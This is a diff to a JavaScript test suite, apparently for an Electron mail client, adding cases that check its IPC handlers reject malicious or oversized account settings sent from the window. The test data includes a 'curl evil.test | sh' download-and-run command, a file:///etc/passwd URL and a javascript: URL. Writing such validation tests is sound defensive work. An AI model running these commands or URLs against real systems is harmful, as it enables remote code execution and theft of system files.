@@ -83,13 +83,44 @@ describe('registerIpcHandlers', () => {
         fields: {
           port: expect.any(String),
           host: 'must not be empty',
-          '(request)': expect.stringMatching(/extra/),
+          extra: expect.stringMatching(/extra/),
         },
       },
     });
     expect(handlers['account:save']).not.toHaveBeenCalled();
     await expect(call('account:remove', 'work')).resolves.toMatchObject({ ok: false });
     await expect(call('preferences:save', null)).resolves.toMatchObject({ ok: false });
+  });
+
+  it.each([
+    [
+      'a passwordCommand (it would run a command in main)',
+      { passwordCommand: 'curl evil.test | sh' },
+      'passwordCommand',
+    ],
+    ['a passwordEnv', { passwordEnv: 'HOME' }, 'passwordEnv'],
+    ['a file: openUrl', { openUrl: 'file:///etc/passwd' }, 'openUrl'],
+    ['a javascript: openUrl', { openUrl: 'javascript:alert(1)' }, 'openUrl'],
+    ['an http openUrl', { openUrl: 'http://mail.example.test/' }, 'openUrl'],
+    ['a 100 kB user name', { user: 'u'.repeat(100_000) }, 'user'],
+    ['a 100 kB password', { password: 'p'.repeat(100_000) }, 'password'],
+    ['a 100 kB caFile path', { caFile: '/'.repeat(100_000) }, 'caFile'],
+    ['a 100 kB mailbox name', { mailboxes: ['m'.repeat(100_000)] }, 'mailboxes.0'],
+    [
+      '10,000 mailboxes',
+      { mailboxes: Array.from({ length: 10_000 }, (_, i) => `m${i}`) },
+      'mailboxes',
+    ],
+  ])('refuses %s from the window, naming the field', async (_what, change, field) => {
+    const { call, handlers } = setup();
+    for (const channel of ['account:save', 'account:test']) {
+      const result = await call(channel, { account: { ...account, ...change } });
+      expect(result).toMatchObject({
+        ok: false,
+        error: { code: 'invalid-request', fields: { [field]: expect.any(String) } },
+      });
+      expect(handlers[channel]).not.toHaveBeenCalled();
+    }
   });
 
   it('turns a handler that throws into a failed result, never an exception in main', async () => {
